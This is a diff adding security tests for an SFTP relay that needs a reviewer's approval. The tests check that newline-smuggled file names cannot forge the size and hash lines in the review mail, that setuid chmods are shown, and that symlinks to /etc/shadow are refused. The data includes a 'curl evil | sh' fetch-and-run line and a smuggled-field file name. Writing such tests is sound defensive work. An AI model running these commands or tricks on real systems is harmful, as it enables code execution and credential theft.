@@ -6,6 +6,7 @@ import type { SFTPWrapper } from 'ssh2';
 import { parsePublicKeyLine } from '../../../core/ssh/public-key';
 import { sshKeygen, tempKeyDir, type GeneratedKey } from '../../support/ssh-keygen';
 import { MAX_SFTP_HELD_BYTES } from '../../../agent/ssh/sftp/sftp-relay';
+import { postDecision, waitForMail } from '../../support/outbox';
 import { ssh2Caller } from '../../support/ssh2-caller';
 import { runClient, startSshStack, CLIENT_RUN_TIMEOUT_MS, type ClientRun, type SshStack } from '../../support/ssh-stack';
 
@@ -124,6 +125,51 @@ describe('ssh data plane under attack', () => {
     const openWrite = (sftp: SFTPWrapper, path: string): Promise<Buffer> => new Promise((resolve, reject) => sftp.open(path, 'w', (e, h) => (e ? reject(e) : resolve(h))));
     const write = (sftp: SFTPWrapper, handle: Buffer, data: Buffer): Promise<Error | undefined> =>
       new Promise((resolve) => sftp.write(handle, data, 0, data.length, 0, (e) => resolve(e ?? undefined)));
+
+    it('shows the reviewer an upload path with a line break quoted, so it cannot pass for the size and SHA-256 lines', async () => {
+      const { sftp, end } = await openSftp('alice', ['support']);
+      try {
+        const path = `${stack.sshd.dataDir}/spoof\nsize: 3 bytes\nsha256: ${'0'.repeat(64)}\nfirst lines:\nhi`;
+        const handle = await openWrite(sftp, path);
+        expect(await write(sftp, handle, Buffer.from('curl evil | sh\n'))).toBeUndefined();
+        const closed = new Promise<Error | undefined>((resolve) => sftp.close(handle, (e) => resolve(e ?? undefined)));
+        const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', 'spoof');
+        expect(mail.text.match(/^\| size: /gm)).toEqual(['| size: ']);
+        expect(mail.text.match(/^\| sha256: /gm)).toEqual(['| sha256: ']);
+        expect(mail.text).toContain('spoof\\nsize: 3 bytes');
+        expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
+        expect((await closed)?.message).toMatch(/denied/);
+      } finally {
+        end();
+      }
+    });
+
+    it('shows the reviewer the permission bits a setstat would set', async () => {
+      const { sftp, end } = await openSftp('alice', ['support']);
+      try {
+        const target = join(stack.sshd.dataDir, 'plain-file');
+        writeFileSync(target, 'x\n', { mode: 0o644 });
+        const chmod = new Promise<Error | undefined>((resolve) => sftp.chmod(target, 0o4755, (e) => resolve(e ?? undefined)));
+        const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', 'plain-file');
+        expect(mail.text).toContain(`| sftp setstat ${target} mode 4755\n`);
+        expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
+        expect((await chmod)?.message).toMatch(/denied/);
+      } finally {
+        end();
+      }
+    });
+
+    it('refuses a symlink at once, without asking a reviewer about a change the agent would not run', async () => {
+      const { sftp, end } = await openSftp('alice', ['support']);
+      try {
+        const link = join(stack.sshd.dataDir, 'link-to-shadow');
+        const made = await new Promise<Error | undefined>((resolve) => sftp.symlink('/etc/shadow', link, (e) => resolve(e ?? undefined)));
+        expect(made?.message).toBe('twokey: symlink is not relayed over SFTP');
+        expect(existsSync(link)).toBe(false);
+      } finally {
+        end();
+      }
+    }, 20_000);
 
     it('bounds what one channel holds across many uploads open at once', async () => {
       const { sftp, end } = await openSftp('loader', []);
